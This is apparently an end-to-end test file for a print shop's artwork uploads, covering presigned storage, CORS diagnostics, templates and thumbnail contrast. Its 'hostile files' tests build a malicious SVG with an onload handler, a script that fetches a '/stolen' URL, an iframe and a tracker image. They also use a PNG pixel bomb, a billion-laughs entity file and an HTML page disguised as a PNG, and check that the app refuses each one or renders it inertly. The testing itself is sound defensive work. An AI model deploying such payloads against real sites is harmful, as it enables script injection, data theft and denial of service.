import { createServer, type Server } from 'node:http'
import type { Locator } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
import { contrast } from '~/domain/artwork/colorContrast'
import { paths } from '~/paths'
import { openInside } from './support/controlWalk'
import { ownWorld } from './support/ownWorld'
import { openDemo } from './support/openDemo'
import { closeBrowser, expectAccessible, visit, type Visitor } from './support/visitor'
import { connectLive } from './support/connectLive'

interface Running {
  address: string
  close(): Promise<unknown>
}

/** A ticket host and a bucket, each another origin, as object storage has them. */
interface Storage extends Running {
  puts: { path: string; type: string; bytes: number }[]
  /** What was put last. */
  last: Buffer
  /** Whether it answers pages of other origins. */
  isOpen: boolean
}

const world = ownWorld()
let storage: Storage
let app: Running

beforeAll(async () => {
  const { readConfig } = await import('../../src/commands/project.mjs')
  const { serveApp } = await import('../../src/commands/serveApp.mjs')
  storage = await startStorage()
  app = await serveApp({
    config: {
      ...readConfig(),
      apiBaseUrl: world.sandbox,
      authBaseUrl: null,
      demo: false,
      artworkUpload: {
        kind: 'presigned',
        url: `${storage.address}/ticket`,
        uploadOrigins: [storage.address.replace('127.0.0.1', 'localhost')],
      },
    },
    port: 4360,
  })
})
afterAll(async () => {
  await Promise.all([app.close(), storage.close(), closeBrowser()])
})

const evil = (host: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100000 100000" onload="parent.__ran=1;top.__ran=1">
    <script>top.__ran = 1; fetch('${host}/stolen')</script>
    <foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${host}/frame"></iframe></foreignObject>
    <image href="${host}/tracker.png" width="10" height="10"/>
    <rect width="100000" height="100000" fill="#2a4fa0"/>
  </svg>`

const upload = (visitor: Visitor, name: string, text: string) =>
  visitor.page
    .getByLabel('Picture on this device')
    .setInputFiles({ name, mimeType: 'image/svg+xml', buffer: Buffer.from(text) })

async function openStore(look = {}): Promise<Visitor> {
  const visitor = await visit(app.address, look)
  await connectLive(visitor.page)
  return visitor
}

describe('hostile files', () => {
  it('an SVG with scripts is refused, another is shown as a picture only: nothing runs, nothing is fetched', async () => {
    const visitor = await openDemo('/files/new')
    const { page } = visitor
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    await upload(visitor, 'badge.svg', evil(storage.address))
    await page.getByText('“badge.svg”: It contains a script.', { exact: false }).waitFor()
    expect(await page.locator('main img').count()).toBe(0)
    const plain = evil(storage.address).replace(
      / onload="[^"]*"|<(script|foreignObject)[\s\S]*<\/\1>|<image[^>]*>/g,
      '',
    )
    await upload(
      visitor,
      'badge.svg',
      plain.replace('<rect', '<image href="data:image/png;base64,AA"/><rect'),
    )
    await page.getByText('Bitmap inside. This drawing holds a bitmap', { exact: false }).waitFor()
    await page.getByRole('img', { name: 'Preview of badge.svg' }).waitFor()
    await page.waitForFunction(() => {
      const [picture] = document.querySelectorAll<HTMLImageElement>('img[alt^="Preview"]')
      return picture?.complete === true && picture.naturalWidth > 0
    })
    expect(await page.evaluate(() => Reflect.get(window, '__ran'))).toBeUndefined()
    expect(await page.locator('main svg rect, main svg image, main svg script').count()).toBe(0)
    expect(asked.filter((url) => url.startsWith(storage.address))).toEqual([])
    visitor.expectNoTrouble()
    await visitor.close()
  })

  it('a pixel bomb, a billion laughs and a page named .png are refused before anything decodes them', async () => {
    const visitor = await openDemo('/files/new')
    const { page } = visitor
    const bomb = Buffer.from('89504e470d0a1a0a0000000d494844520000c3500000c3500806000000', 'hex')
    await page
      .getByLabel('Picture on this device')
      .setInputFiles({ name: 'bomb.png', mimeType: 'image/png', buffer: bomb })
    await page.getByText('The picture is 50000 × 50000 px', { exact: false }).waitFor()
    await upload(visitor, 'lol.svg', '<!DOCTYPE svg [<!ENTITY a "ha">]><svg>&a;</svg>')
    await page.getByText('This SVG defines entities', { exact: false }).waitFor()
    await upload(visitor, 'art.png', '<!doctype html><p>Sign in</p>')
    await page.getByText('This is a web page, not a picture', { exact: false }).waitFor()
    expect(await page.locator('main img').count()).toBe(0)
    expect(await page.getByRole('button', { name: 'Upload and add' }).count()).toBe(0)
    visitor.expectNoTrouble()
    await visitor.close()
  })
})

describe('artwork from this device', () => {
  it.each([
    { name: 'wide', width: 1440, height: 900 },
    { name: 'narrow', width: 390, height: 844 },
  ])(
    'is measured, uploaded, followed until ready, and recognized by its bytes, $name',
    async ({ width, height }) => {
      const visitor = await openDemo('/files/new', { width, height })
      const { page } = visitor
      // Half of it is see-through, which only decoding tells.
      const png = await page.evaluate(async () => {
        const canvas = new OffscreenCanvas(1200, 900)
        const context = canvas.getContext('2d')
        if (context) context.fillStyle = '#a3191f'
        context?.fillRect(0, 0, 600, 900)
        return new Uint8Array(await (await canvas.convertToBlob()).arrayBuffer())
      })
      const file = { name: 'half.png', mimeType: 'image/png', buffer: Buffer.from(png) }
      await page.getByLabel('Picture on this device').setInputFiles(file)
      await page.getByText('Has see-through parts').waitFor()
      await page.getByText(/1200 × 900 px: sharp up to 20\.3 × 15\.2 cm/).waitFor()
      await expectAccessible(page)
      await page.getByRole('button', { name: 'Upload and add' }).click()
      await page.getByText('Ready to print', { exact: true }).waitFor()
      await expectAccessible(page)
      await page.goto(`${inject('demoAddress')}files/new`)
      await page.getByLabel('Picture on this device').setInputFiles({ ...file, name: 'again.png' })
      await page.getByText('Already in the library').waitFor()
      await page.goto(`${inject('demoAddress')}files`)
      await page.getByRole('link', { name: 'half.png' }).waitFor()
      await page.getByRole('button', { name: 'Read them' }).click()
      await page.getByText('Read: 40 of 40 orders, 12 of 12 products.').waitFor()
      await expectAccessible(page)
      visitor.expectNoTrouble()
      await visitor.close()
    },
  )

  it('goes to a presigned bucket on another origin, under the strict policy', async () => {
    const visitor = await openStore()
    const { page } = visitor
    await page.goto(`${app.address}files/new`)
    await upload(visitor, 'logo.svg', '<svg xmlns="http://www.w3.org/2000/svg" width="600" height="400"/>')
    await page.getByRole('button', { name: 'Upload and add' }).click()
    await page
      .getByRole('heading', { name: 'logo.svg', level: 1 })
      .or(page.getByText('The service is checking this file'))
      .first()
      .waitFor()
    expect(storage.puts).toEqual([{ path: '/bucket/logo', type: 'image/svg+xml', bytes: 66 }])
    visitor.expectNoTrouble()
    await visitor.close()
  })

  it('the upload is tested from the settings: what worked, what the world sees, and what to do when it is refused', async () => {
    const expected = [/CORS policy|net::ERR_FAILED|preflight/i, /storage|ticket/]
    const visitor = await openStore({ expected })
    const { page } = visitor
    let headers: Record<string, string> = { 'Access-Control-Allow-Origin': '*' }
    await page.route('https://cdn.shop.com/**', (route) =>
      route.fulfill({ contentType: 'image/png', body: storage.last, headers }),
    )
    await page.goto(`${app.address}settings`)
    const results = page.getByRole('list', { name: 'What the test found' })
    const test = () => page.getByRole('button', { name: 'Test the upload' }).click()
    await test()
    await results.getByText('Read back: the same picture, size and color.').waitFor()
    await results.getByText('The artwork host works.').waitFor()
    await expectAccessible(page)
    headers = { 'Access-Control-Allow-Origin': 'https://another.shop' }
    await test()
    await results.getByText('Its host lets no page read the pixels', { exact: false }).waitFor()
    storage.isOpen = false
    await test()
    await results
      .getByText(`is there, but pages of ${new URL(app.address).origin} may not read its answer`, {
        exact: false,
      })
      .waitFor()
    await results.getByText('with the method GET', { exact: false }).waitFor()
    storage.isOpen = true
    visitor.expectNoTrouble()
    await visitor.close()
  })
})

describe('templates', () => {
  it.each([
    { name: 'wide', width: 1440, height: 900 },
    { name: 'narrow', width: 390, height: 844 },
  ])('are listed, opened and copied, axe-clean, $name', async ({ width, height }) => {
    const visitor = await openDemo('/templates', { width, height, colorScheme: 'dark' })
    const { page } = visitor
    await page.getByRole('link', { name: 'Club cap' }).waitFor()
    await expectAccessible(page)
    await page.getByRole('link', { name: 'Club cap' }).click()
    // On a phone all but the primary action stands in the menu.
    if (width < 720) await page.getByRole('button', { name: 'More actions' }).click()
    await page.getByRole('button', { name: 'Copy as my recipe' }).click()
    await page.getByRole('link', { name: 'See my recipes' }).waitFor()
    await expectAccessible(page)
    await page.getByRole('button', { name: 'More actions' }).click()
    await page.getByRole('menuitem', { name: 'Delete template' }).click()
    await page.getByRole('dialog', { name: 'Delete this template?' }).waitFor()
    await expectAccessible(page)
    await page.getByRole('button', { name: 'Keep it' }).click()
    await page.getByRole('link', { name: 'See my recipes' }).click()
    await page.getByRole('heading', { name: 'Club cap' }).waitFor()
    await expectAccessible(page)
    visitor.expectNoTrouble()
    await visitor.close()
  })
})

it.each(['light', 'dark'] as const)(
  'white, black and colored artwork is seen on what its thumbnail lies on: %s',
  async (colorScheme) => {
    const { page, close } = await openDemo(paths.replaceArtwork(), { colorScheme })
    /** The colors below a picture, as "#rrggbb". */
    const below = (picture: Locator) =>
      picture.evaluate((image) => {
        let box: Element | null = image.parentElement
        while (box !== null && /^none$/.test(getComputedStyle(box).backgroundImage)) box = box.parentElement
        const colors = box === null ? '' : getComputedStyle(box).backgroundImage
        return [...colors.matchAll(/rgb\((\d+), (\d+), (\d+)\)/g)].map(
          ([, ...parts]) => `#${parts.map((part) => Number(part).toString(16).padStart(2, '0')).join('')}`,
        )
      })
    const expectSeen = async (pictures: Locator) => {
      await pictures.first().waitFor()
      for (const picture of await pictures.all()) {
        const grounds = await below(picture)
        expect(grounds.length).toBeGreaterThan(0)
        for (const ground of grounds)
          for (const ink of ['#ffffff', '#f3efe6', '#000000', '#2f4f3a'])
            expect(contrast(ink, ground), `${ink} on ${ground}`).toBeGreaterThan(2.5)
      }
    }
    const main = page.getByRole('main')
    await expectSeen(main.getByRole('radio').locator('xpath=..').locator('img'))
    await openInside(page, paths.files())
    await expectSeen(main.getByRole('row').locator('img'))
    await main
      .getByRole('link', { name: /\.png$/ })
      .first()
      .click()
    await expectSeen(main.getByRole('img', { name: /\.png$/ }))
    await openInside(page, paths.approvals())
    await expectSeen(main.getByRole('row').locator('img'))
    await openInside(page, paths.newFile())
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><path d="M0 0h9v9z" fill="#fff"/></svg>'
    await page
      .getByLabel('Picture on this device')
      .setInputFiles({ name: 'white.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(svg) })
    await expectSeen(main.getByRole('img', { name: 'Preview of white.svg' }))
    await close()
  },
)

async function startStorage(): Promise<Storage> {
  const puts: Storage['puts'] = []
  const server: Server = createServer((request, reply) => {
    const chunks: Buffer[] = []
    request.on('data', (chunk: Buffer) => chunks.push(chunk))
    request.on('end', () => {
      if (started.isOpen) reply.setHeader('Access-Control-Allow-Origin', '*')
      reply.setHeader('Access-Control-Allow-Headers', 'Content-Type')
      reply.setHeader('Access-Control-Allow-Methods', 'GET, PUT')
      const path = request.url ?? ''
      if (request.method === 'OPTIONS') return void reply.writeHead(204).end()
      if (path.startsWith('/ticket?')) {
        const bucket = address.replace('127.0.0.1', 'localhost')
        reply.setHeader('Content-Type', 'application/json')
        return void reply.end(
          JSON.stringify({
            uploadUrl: `${bucket}/bucket/logo`,
            url: `https://cdn.shop.com/${puts.length}/logo-600x400.svg`,
          }),
        )
      }
      if (request.method === 'PUT') {
        started.last = Buffer.concat(chunks)
        puts.push({ path, type: request.headers['content-type'] ?? '', bytes: started.last.length })
      }
      reply.writeHead(200).end()
    })
  })
  await new Promise<void>((done) => server.listen(0, done))
  const bound = server.address()
  const address = `http://127.0.0.1:${typeof bound === 'object' ? bound?.port : ''}`
  const started: Storage = {
    address,
    puts,
    last: Buffer.of(),
    isOpen: true,
    close: () => new Promise((done) => server.close(done)),
  }
  return started
}
